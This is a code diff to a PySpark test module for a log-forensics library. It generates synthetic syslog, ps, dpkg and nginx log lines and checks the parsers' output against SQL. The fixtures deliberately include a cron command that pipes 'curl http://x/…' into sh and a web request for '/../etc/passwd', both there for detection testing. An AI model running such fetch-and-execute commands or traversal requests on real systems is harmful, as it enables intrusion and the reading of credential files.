@@ -8,14 +8,17 @@ from __future__ import annotations
 from pyspark.sql import Column, DataFrame
 from pyspark.sql import functions as F
 
-from fleetlens.extract import REGISTRY
+from fleetlens.extract import REGISTRY, extract_all
 from fleetlens.extract.logins import decode_utmp, lastlog_events, session_table_events, utmp_events
 from fleetlens.extract.services import chrome_downloads, chrome_visits, firefox_visits
 from fleetlens.extract.status import artifact_status, parser_stats
 from fleetlens.functions import times
-from fleetlens.plans.registry import query
+from fleetlens.plans.registry import ORACLES, query
 from fleetlens.plans.views import read_table
 from fleetlens.schema import HOST_SCHEMA
+from fleetlens.session import shared_folder
+from fleetlens.sources.lines import read_lines
+from fleetlens.sources.records import read_records
 
 FILE_MTIME = 1706745600.0
 S = "date_trunc('second', ts)"
@@ -133,12 +136,15 @@ UNION ALL SELECT event_id * 1000 + 36 + length({USER}), 'suspicious_cron_command
     'Suspicious command executed by cron as ' || {USER} || ': curl http://x/' || {USER} ||
     ' | sh -- feeds a download to a shell', 'high' FROM events WHERE event_type = 'error'""")
 def _cron_log(spark, sf_dir):
+    out = REGISTRY["cronlog_parser"].extract(cron_lines(spark, sf_dir), hosts_of(spark, sf_dir))
+    return out.select("raw_line_offset", "subcategory", "actor_user", "description", "severity")
+
+
+def cron_lines(spark, sf_dir) -> DataFrame:
     command = F.when(F.col("event_type") == "error", _text("curl http://x/", F.col("u"), " | sh")).otherwise(
         _text("/usr/bin/run ", F.col("event_type")))
-    lines = lines_from(_events(spark, sf_dir), "var/log/syslog", _syslog(
+    return lines_from(_events(spark, sf_dir), "var/log/syslog", _syslog(
         _text("CRON[8]: (", F.col("u"), ") CMD (", command, ")")))
-    out = REGISTRY["cronlog_parser"].extract(lines, hosts_of(spark, sf_dir))
-    return out.select("raw_line_offset", "subcategory", "actor_user", "description", "severity")
 
 
 def journal_lines(spark, sf_dir) -> DataFrame:
@@ -278,11 +284,14 @@ def _audit(spark, sf_dir):
     '/usr/bin/' || event_type AS actor_process, 'Process running at collection time (user ' || {USER} || '): /usr/bin/' ||
     event_type || ' --id ' || CAST(event_id AS VARCHAR) AS description FROM events""")
 def _ps(spark, sf_dir):
-    lines = lines_from(_events(spark, sf_dir), "volatile/ps.txt", _text(
+    out = REGISTRY["ps_parser"].extract(ps_lines(spark, sf_dir), hosts_of(spark, sf_dir))
+    return out.select("raw_line_offset", "actor_user", "actor_process", "description")
+
+
+def ps_lines(spark, sf_dir) -> DataFrame:
+    return lines_from(_events(spark, sf_dir), "volatile/ps.txt", _text(
         F.col("u"), "  ", F.col("event_id").cast("string"), "  0.0 0.1 5 6 ?  S  10:00   0:00 /usr/bin/",
         F.col("event_type"), " --id ", F.col("event_id").cast("string")))
-    out = REGISTRY["ps_parser"].extract(lines, hosts_of(spark, sf_dir))
-    return out.select("raw_line_offset", "actor_user", "actor_process", "description")
 
 
 @query("xtr_9_usb_devices", f"""SELECT event_id * 4000 AS raw_line_offset, 'usb_connect' AS subcategory,
@@ -340,12 +349,15 @@ _LOCAL_UTC = f"CASE WHEN user_id % 2 = 0 THEN {S} - INTERVAL 5 HOUR ELSE {S} END
 @query("xtr_11_dpkg_log", f"""SELECT event_id * 1000 AS raw_line_offset, {_LOCAL_UTC} AS timestamp_utc, {_ACTION} AS subcategory,
     CASE WHEN event_type IN ('error', 'click') THEN 'high' ELSE 'info' END AS severity FROM events""")
 def _dpkg(spark, sf_dir):
+    out = REGISTRY["dpkg_parser"].extract(dpkg_lines(spark, sf_dir), hosts_of(spark, sf_dir))
+    return out.select("raw_line_offset", "timestamp_utc", "subcategory", "severity")
+
+
+def dpkg_lines(spark, sf_dir) -> DataFrame:
     action = _by_type(error=F.lit("remove"), view=F.lit("upgrade"), click=F.lit("purge"), signup=F.lit("install"),
                       purchase=F.lit("install"))
-    lines = lines_from(_events(spark, sf_dir), "var/log/dpkg.log", _text(
+    return lines_from(_events(spark, sf_dir), "var/log/dpkg.log", _text(
         F.date_format("ts", "yyyy-MM-dd HH:mm:ss"), " ", action, " ufw:all 1.0 2.0"))
-    out = REGISTRY["dpkg_parser"].extract(lines, hosts_of(spark, sf_dir))
-    return out.select("raw_line_offset", "timestamp_utc", "subcategory", "severity")
 
 
 def apt_lines(spark, sf_dir) -> DataFrame:
@@ -401,13 +413,16 @@ def _dnf(spark, sf_dir):
     WHEN 'signup' THEN 'low' ELSE 'info' END AS severity, 'status=' || CASE WHEN event_type = 'signup' THEN '401' ELSE '200' END ||
     '; bytes=' || CAST(event_id AS VARCHAR) || '; ua=agent' AS notes FROM events""")
 def _web(spark, sf_dir):
-    lines = lines_from(_events(spark, sf_dir), "var/log/nginx/access.log", _text(
+    out = REGISTRY["weblog_parser"].extract(web_lines(spark, sf_dir), hosts_of(spark, sf_dir))
+    return out.select("raw_line_offset", "timestamp_utc", "source_ip", "actor_user", "severity", "notes")
+
+
+def web_lines(spark, sf_dir) -> DataFrame:
+    return lines_from(_events(spark, sf_dir), "var/log/nginx/access.log", _text(
         F.col("ip"), " - ", F.when(F.col("event_type") == "click", F.col("u")).otherwise("-"), " [",
         F.date_format("ts", "dd/MMM/yyyy:HH:mm:ss"), ' +0000] "', F.when(F.col("event_type") == "signup", "POST").otherwise("GET"),
         " /", F.when(F.col("event_type") == "error", "../etc/passwd").otherwise(F.col("event_type")), ' HTTP/1.1" ',
         F.when(F.col("event_type") == "signup", "401").otherwise("200"), " ", F.col("event_id").cast("string"), ' "-" "agent"'))
-    out = REGISTRY["weblog_parser"].extract(lines, hosts_of(spark, sf_dir))
-    return out.select("raw_line_offset", "timestamp_utc", "source_ip", "actor_user", "severity", "notes")
 
 
 @query("xtr_15_ftp_log", f"""SELECT event_id * 1000 AS raw_line_offset, {S} AS timestamp_utc, {USER} AS actor_user,
@@ -698,3 +713,79 @@ def _stats(spark, sf_dir):
     artifacts = _collected(spark, sf_dir)
     events = artifacts.filter(F.col("artifact_path") == "var/log/auth.log").select(F.lit("authlog_parser").alias("parser_name"))
     return parser_stats(artifacts, events, artifacts.filter(F.col("artifact_path") == "etc/passwd"))
+
+
+# ------------------------------------------------------- all jobs at once, and files
+
+#: Job and the query whose SQL says what its lines become.
+ALL_JOBS = {"authlog_parser": "xtr_2_auth_log", "cronlog_parser": "xtr_3_cron_log", "journald_parser": "xtr_4_journal",
+            "dpkg_parser": "xtr_11_dpkg_log", "apt_parser": "xtr_12_apt_history", "weblog_parser": "xtr_14_web_access",
+            "sudoers_parser": "xtr_18_sudoers"}
+
+
+def all_lines(spark, sf_dir) -> DataFrame:
+    """Logs of several kinds in one table of lines."""
+    parts = [make(spark, sf_dir) for make in (auth_lines, cron_lines, journal_lines, dpkg_lines, apt_lines, web_lines, sudo_lines)]
+    out = parts[0]
+    for part in parts[1:]:
+        out = out.unionByName(part)
+    return out
+
+
+@query("set_1_all_jobs", " UNION ALL ".join(
+    f"SELECT '{job}' AS parser_name, count(*) AS events, sum(raw_line_offset)::DECIMAL(38, 0) AS offsets, min(raw_line_offset) AS first_offset "
+    f"FROM ({ORACLES[name]})" for job, name in ALL_JOBS.items()))
+def _all_jobs(spark, sf_dir):
+    return extract_all(all_lines(spark, sf_dir), hosts_of(spark, sf_dir)).groupBy("parser_name").agg(
+        F.count(F.lit(1)).alias("events"), F.sum(F.col("raw_line_offset").cast("decimal(28,0)")).alias("offsets"),
+        F.min("raw_line_offset").alias("first_offset"))
+
+
+def stored_files(spark, sf_dir) -> str:
+    """The documents as one file per host and kind, in the order of their ids: plain, packed, and with a blank in the path.
+
+    The text of every fifth document ends with a byte that is no UTF-8.
+    """
+    root = shared_folder(spark, "raw")
+    k = F.col("doc_id")
+    text = F.concat(F.coalesce("text", F.lit("")).cast("binary"), F.when(k % 5 == 0, F.unhex(F.lit("FF"))).otherwise(F.unhex(F.lit(""))))
+    docs = read_table(spark, sf_dir, "documents").select(
+        "doc_id", F.concat(F.lit("host-"), (k % 4).cast("string")).alias("folder"), text.cast("string").alias("value"))
+    for n, (path, packed) in enumerate((("var/log/app.log", "none"), ("var/log/app packed", "gzip"))):
+        own = docs.filter(F.floor(k / 4) % 2 == n)
+        (own.repartition(4, "folder").sortWithinPartitions("folder", "doc_id").drop("doc_id").write.partitionBy("folder")
+         .option("compression", packed).mode("overwrite").text(f"{root}/{path}"))
+    return root
+
+
+@query("src_1_lines", """WITH d AS (SELECT doc_id, doc_id % 4 AS host, (doc_id // 4) % 2 AS kind,
+    encode(coalesce(text, '')) || CASE WHEN doc_id % 5 = 0 THEN '\\xFF'::BLOB ELSE ''::BLOB END AS body, coalesce(text, '') AS t FROM documents),
+parts AS (SELECT doc_id, host, kind, unnest(string_split(t, chr(10))) AS part, generate_subscripts(string_split(t, chr(10)), 1) AS n,
+    len(string_split(t, chr(10))) AS last FROM d),
+lines AS (SELECT *, encode(part) || CASE WHEN n = last AND doc_id % 5 = 0 THEN '\\xFF'::BLOB ELSE ''::BLOB END AS raw FROM parts)
+SELECT 'host-' || CAST(host AS VARCHAR) AS host_id, kind AS kind, row_number() OVER w AS line_no,
+    CAST(sum(octet_length(raw) + 1) OVER w - octet_length(raw) - 1 AS BIGINT) AS byte_offset,
+    md5(CASE WHEN n = last AND doc_id % 5 = 0 THEN raw ELSE encode(rtrim(part, chr(13))) END) AS digest,
+    n = last AND doc_id % 5 = 0 AS had_decode_error FROM lines
+WINDOW w AS (PARTITION BY host, kind ORDER BY doc_id, n)""")
+def _file_lines(spark, sf_dir):
+    root = stored_files(spark, sf_dir)
+    # Short ranges, so that many lines reach over their borders.
+    rows = read_lines(spark, f"{root}/*/*/*/folder=*/part-*", root, split_bytes=1 << 14)
+    # root/<host>/ is what the reader expects; here folders are turned around.
+    host = F.regexp_extract("artifact_path", "folder=([^/]*)/", 1)
+    return rows.select(host.alias("host_id"), F.col("artifact_path").contains("app packed").cast("long").alias("kind"), "line_no", "byte_offset",
+                       F.md5("line").alias("digest"), "had_decode_error")
+
+
+@query("src_4_record_files", """SELECT (doc_id % 3) AS host, row_number() OVER (PARTITION BY doc_id % 3 ORDER BY doc_id) - 1 AS record_index, doc_id
+FROM documents""")
+def _record_files(spark, sf_dir):
+    """Ids as records of 12 bytes in one file per host, read in ranges of a few records."""
+    root = shared_folder(spark, "records")
+    docs = read_table(spark, sf_dir, "documents").select(
+        "doc_id", (F.col("doc_id") % 3).alias("folder"), F.lpad(F.col("doc_id").cast("string"), 11, "0").alias("value"))
+    docs.repartition(3, "folder").sortWithinPartitions("folder", "doc_id").drop("doc_id").write.partitionBy("folder").text(f"{root}/h/var")
+    rows = read_records(spark, f"{root}/*/*/folder=*/part-*", root, 12, split_bytes=1000)
+    return rows.select(F.regexp_extract("artifact_path", "folder=([0-9]*)/", 1).cast("long").alias("host"), "record_index",
+                       F.rtrim(F.col("record").cast("string"), F.lit("\n")).cast("long").alias("doc_id"))
